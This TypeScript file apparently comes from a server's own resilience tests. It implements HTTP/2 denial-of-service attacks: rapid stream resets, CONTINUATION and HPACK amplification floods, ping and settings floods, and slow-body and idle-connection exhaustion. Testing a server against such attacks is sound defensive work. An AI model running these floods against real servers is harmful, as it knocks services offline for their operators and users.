import { setTimeout as pause } from 'node:timers/promises';
import tls from 'node:tls';
import {
  END_HEADERS,
  END_STREAM,
  encodeCancel,
  encodeFrame,
  encodeHeader,
  encodePreface,
  encodeRequest,
  readFrames,
} from '#server/testing/http2-frames.ts';
import type { Attack, Outcome } from './attacks.ts';

/** Returns stream ids. Streams that a client opens have odd ids. */
const streams = (count: number) => Array.from({ length: count }, (_, at) => 2 * at + 1);

/** Attacks over HTTP/2, where one connection has many requests. */
export const STREAM_ATTACKS: readonly Attack[] = [
  {
    name: 'requests taken back at once, 5,000 on each of 20 connections',
    run: floods(20, (host) =>
      streams(5000).flatMap((stream) => [
        encodeRequest(stream, { host, path: '/articles?q=word' }),
        encodeCancel(stream),
      ]),
    ),
  },
  {
    name: 'requests without an end, 5,000 on each of 60 connections',
    run: floods(60, (host) =>
      streams(5000).map((stream) => encodeRequest(stream, { host, path: '/about' })),
    ),
  },
  {
    name: 'heads without an end, on each of 20 connections',
    run: floods(20, () => [
      encodeFrame('headers', 0, 1, encodeHeader('x-first', 'x')),
      ...Array.from({ length: 2000 }, () =>
        encodeFrame('continuation', 0, 1, encodeHeader('x-more', 'x'.repeat(1000))),
      ),
    ]),
  },
  {
    name: 'heads that unfold to 4,000 times their size, on each of 20 connections',
    run: floods(20, () =>
      streams(200).map((stream) => {
        // This header is added to the header table once. Each later reference takes one byte.
        const remembered = Buffer.concat([
          Buffer.from([0x40]),
          encodeHeader('x-large', 'x'.repeat(4000)).subarray(1),
        ]);
        const named = Buffer.alloc(12_000, 0xbe);
        return encodeFrame(
          'headers',
          END_STREAM | END_HEADERS,
          stream,
          Buffer.concat([remembered, named]),
        );
      }),
    ),
  },
  {
    name: 'pings, on each of 20 connections',
    run: floods(20, () =>
      Array.from({ length: 50_000 }, () => encodeFrame('ping', 0, 0, Buffer.alloc(8))),
    ),
  },
  {
    name: 'settings, on each of 20 connections',
    run: floods(20, () => Array.from({ length: 50_000 }, () => encodeFrame('settings', 0, 0))),
  },
  {
    name: 'empty pieces of a body, on each of 20 connections',
    run: floods(20, (host) => [
      encodeRequest(1, {
        host,
        path: '/api/v1/errors',
        method: 'POST',
        headers: { 'content-type': 'application/json' },
      }),
      ...Array.from({ length: 50_000 }, () => encodeFrame('data', 0, 1)),
    ]),
  },
  { name: 'answers never read, 32 on each of 200 connections', run: neverRead(200, '/articles') },
  {
    name: 'the description of the API, never read, 32 on each of 64 connections',
    run: neverRead(64, '/api/v1/openapi.json'),
  },
  { name: 'bodies that never end, 32 on each of 100 connections', run: slowBodies(100) },
  { name: 'connections that ask for nothing, 3,000', run: idle(3000) },
];

/** Writes the frames of `framesOf` to each connection, disconnects, and repeats. */
function floods(connections: number, framesOf: (host: string) => Buffer[]): Attack['run'] {
  return async (origin, milliseconds) => {
    const outcome: Outcome = {};
    const flood = Buffer.concat([encodePreface(), ...framesOf(origin.host)]);
    const deadline = performance.now() + milliseconds;
    while (performance.now() < deadline) {
      const sockets = Array.from({ length: connections }, () => connect(origin, outcome));
      for (const socket of sockets) socket.write(flood);
      await pause(Math.min(1000, milliseconds));
      for (const socket of sockets) socket.destroy();
    }
    return outcome;
  };
}

/** Opens as many requests as each connection may, without accepting any response, and keeps the connections open. */
function neverRead(connections: number, path: string): Attack['run'] {
  return holding(
    connections,
    (host) => [
      encodePreface({ window: 0 }),
      ...streams(32).map((stream) => encodeRequest(stream, { host, path })),
    ],
    () => [encodeFrame('ping', 0, 0, Buffer.alloc(8))],
  );
}

/** Starts as many request bodies as each connection may, and sends one character of each from time to time. */
function slowBodies(connections: number): Attack['run'] {
  return holding(
    connections,
    (host) => [
      encodePreface(),
      ...streams(32).map((stream) =>
        encodeRequest(stream, {
          host,
          path: '/api/v1/errors',
          method: 'POST',
          headers: { 'content-type': 'application/json' },
        }),
      ),
    ],
    () => streams(32).map((stream) => encodeFrame('data', 0, stream, Buffer.from(' '))),
  );
}

function idle(connections: number): Attack['run'] {
  return holding(
    connections,
    () => [encodePreface()],
    () => [encodeFrame('ping', 0, 0, Buffer.alloc(8))],
  );
}

/** Opens several connections with an unfinished action, and continues the action twice a second. */
function holding(
  connections: number,
  begin: (host: string) => Buffer[],
  goOn: () => Buffer[],
): Attack['run'] {
  return async (origin, milliseconds) => {
    const outcome: Outcome = {};
    const sockets = Array.from({ length: connections }, () => connect(origin, outcome));
    for (const socket of sockets) socket.write(Buffer.concat(begin(origin.host)));
    const deadline = performance.now() + milliseconds;
    while (performance.now() < deadline) {
      await pause(500);
      for (const socket of sockets) if (socket.writable) socket.write(Buffer.concat(goOn()));
    }
    for (const socket of sockets) socket.destroy();
    return outcome;
  };
}

/** Opens a connection that counts the received frames. */
function connect(origin: URL, outcome: Outcome): tls.TLSSocket {
  const socket = tls.connect({
    port: Number(origin.port),
    host: origin.hostname,
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false,
  });
  const count = (what: string) => {
    outcome[what] = (outcome[what] ?? 0) + 1;
  };
  let isOurs = false;
  socket.on('data', readFrames(count));
  socket.on('error', () => {});
  socket.once('close', () => {
    if (!isOurs) count('cut');
  });
  const destroy = socket.destroy.bind(socket);
  socket.destroy = (error) => {
    isOurs = true;
    return destroy(error);
  };
  return socket;
}
